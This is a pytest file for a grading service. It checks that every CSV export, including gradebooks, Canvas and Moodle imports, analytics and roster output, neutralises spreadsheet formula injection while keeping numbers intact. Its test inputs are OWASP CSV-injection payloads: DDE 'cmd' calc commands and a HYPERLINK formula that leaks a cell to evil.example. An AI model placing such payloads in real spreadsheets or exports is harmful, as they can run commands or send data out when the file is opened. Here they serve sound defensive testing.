"""Formula injection (OWASP "CSV injection") in every CSV hwcheck writes: a text cell a spreadsheet
would run comes out with a leading `'`; numbers, negative ones too, stay numbers; Canvas's and
Moodle's files still import by their id columns."""

import csv
import io

import pytest
from service_helpers import bearer
from typer.testing import CliRunner

from bench import classgen
from service.cli.main import app as cli
from service.exports.cells import neutral
from service.web.session import open_session

# OWASP's CSV-injection examples, and the same with the leading tab and carriage return.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the solutions")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _runs(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (Numbers are not formulas.)"""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutral(text: str) -> None:
    running = [cell for row in _cells(text) for cell in row if _runs(cell)]
    assert running == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert neutral(payload) == "'" + payload
    assert not _runs(neutral(payload))


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0", "1e-3", "-2.5E+3", ".5", "-7."])
def test_numbers_stay_numbers(number):
    assert neutral(number) == number and float(neutral(number)) == float(number)


@pytest.mark.parametrize("value", [-1.5, 0, 3, None, True, "Ada Lovelace", "a=b", "x-1", "'=quoted already"])
def test_everything_else_is_untouched(value):
    assert neutral(value) == value


def test_batch_csvs_neutralise_names_ids_and_answers(tmp_path):
    """parts.csv, totals.csv, gradebook.csv, canvas.csv, moodle.csv, analytics.csv, sharing.csv."""
    names = dict(zip(("s1", "s2", "s3", "s4", "s5", "s6", "s7"), PAYLOADS, strict=True))
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["student_id", "name", "email", "section", "canvas_id"])
        out.writerows([sid, name, f"{sid}@example.edu", "=1+1", 40000 + i] for i, (sid, name) in enumerate(names.items()))
    shared = str(classgen.right_answers("lipschitz-linear", 22)["L"])  # variant 22's answer, given on variant 11
    answers = tmp_path / "answers.csv"
    with open(answers, "w", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["student_id", "problem_id", "variant", "L"])
        out.writerows([[sid, "lipschitz-linear", 11, answer] for sid, answer in
                       zip(names, ["=1+2", "-1+2", "-1.5", "@A1", "\t=1", shared, shared], strict=True)])
        out.writerow(["=cmd|' /C calc'!A0", "lipschitz-linear", 11, shared])  # a hostile id in the input
        out.writerow(["owner-of-22", "lipschitz-linear", 22, shared])  # variant 22 is in the batch
    result = CliRunner().invoke(cli, ["grade-batch", str(answers), "--out", str(tmp_path / "out"), "--workers", "1",
                                      "--roster", str(roster), "--assignment", "hw1", "--quiet"])
    assert result.exit_code == 0, result.output
    out_dir = tmp_path / "out"
    files = {name: (out_dir / name).read_text(encoding="utf-8") for name in (
        "parts.csv", "totals.csv", "gradebook.csv", "canvas.csv", "moodle.csv", "analytics.csv", "sharing.csv")}
    for text in files.values():
        assert_neutral(text)

    parts = list(csv.DictReader(io.StringIO(files["parts.csv"])))
    typed = {row["student_id"]: row["answer"] for row in parts if row["part_id"] == "L"}
    assert typed["s1"] == "'=1+2" and typed["s2"] == "'-1+2" and typed["s4"] == "'@A1"
    assert typed["s3"] == "-1.5"  # a negative number stays a number
    assert typed["'=cmd|' /C calc'!A0"] == shared
    sharing = list(csv.DictReader(io.StringIO(files["sharing.csv"])))
    assert {row["student_id"] for row in sharing} == {"s6", "s7", "'=cmd|' /C calc'!A0"}

    # Canvas imports by SIS User ID (and ID), Moodle by ID number: those are the ids, untouched;
    # the names are what got the quote; the scores are numbers.
    canvas = _cells(files["canvas.csv"])[2:]
    assert {row[2]: row[0] for row in canvas if row[2].startswith("s")} == {s: "'" + n.strip() for s, n in names.items()}
    assert [row[1] for row in canvas if row[2].startswith("s")] == [str(40000 + i) for i in range(7)]
    assert all(row[4] == "'=1+1" for row in canvas if row[2].startswith("s"))
    assert all(float(row[5]) >= 0 for row in canvas)
    moodle = list(csv.DictReader(io.StringIO(files["moodle.csv"])))
    assert {row["ID number"]: row["Full name"] for row in moodle if row["ID number"].startswith("s")} == {
        s: "'" + n.strip() for s, n in names.items()}
    assert {row["Email address"] for row in moodle if row["ID number"].startswith("s")} == {
        f"{s}@example.edu" for s in names}


def test_course_csvs_and_the_cli_roster_neutralise_too(tmp_path, client, instructor, settings, monkeypatch):
    """The web gradebook, the analytics CSV route, and `hwcheck admin import-roster`'s output."""
    course = client.post("/api/courses", json={"name": "CS 182"}, headers=instructor).json()["id"]
    roster = client.post(f"/api/courses/{course}/roster", headers=instructor, json=[
        {"student_id": f"s{i}", "name": name} for i, name in enumerate(PAYLOADS)]).json()
    tokens = [s["token"] for s in roster["students"]]
    client.post(f"/api/courses/{course}/assignments", headers=instructor, json={
        "slug": "hw1", "title": "=HW1", "due_at": "2099-01-01T00:00:00Z",
        "problems": [{"problem_id": "lipschitz-linear", "points": 10}]})
    for token in tokens:
        graded = client.post("/api/grade/lipschitz-linear", headers=bearer(token), json={"answers": {"L": "-2+0.5"}})
        assert graded.status_code == 200 and graded.json()["parts"][0]["status"] == "incorrect"

    analytics = client.get(f"/api/courses/{course}/assignments/hw1/analytics?format=csv", headers=instructor)
    assert analytics.status_code == 200
    assert_neutral(analytics.text)
    # The common wrong answers, normalised: "-1.5 ×7" is text that begins with "-".
    assert _cells(analytics.text)[1][5] == f"'-1.5 ×{len(PAYLOADS)}"

    with client.app.state.sessionmaker() as session:
        signed_in = open_session(session, instructor["Authorization"].removeprefix("Bearer "))
    client.cookies.set("hwcheck_session", signed_in)
    gradebook = client.get(f"/instructor/courses/{course}/gradebook.csv")
    client.cookies.clear()
    assert gradebook.status_code == 200
    assert_neutral(gradebook.text)
    stored = [s["name"] for s in client.get(f"/api/courses/{course}/students", headers=instructor).json()]
    assert sorted(stored) == sorted(p.strip() for p in PAYLOADS)  # kept as given (but for the spaces)
    assert [row[1] for row in _cells(gradebook.text)[1:]] == ["'" + name for name in stored]
    assert all(float(row[-1]) == 0 for row in _cells(gradebook.text)[1:])

    monkeypatch.setenv("HWCHECK_DATABASE_URL", settings.effective_database_url)
    from service.settings import get_settings

    get_settings.cache_clear()
    file = tmp_path / "roster.csv"
    with open(file, "w", newline="") as handle:
        csv.writer(handle).writerows([["student_id", "name"], *[[f"t{i}", p] for i, p in enumerate(PAYLOADS)]])
    try:
        printed = CliRunner().invoke(cli, ["admin", "import-roster", str(course), str(file)])
    finally:
        get_settings.cache_clear()
    assert printed.exit_code == 0, printed.output
    assert_neutral(printed.stdout)
    assert [row[1] for row in _cells(printed.stdout)[1:]] == ["'" + p.strip() for p in PAYLOADS]
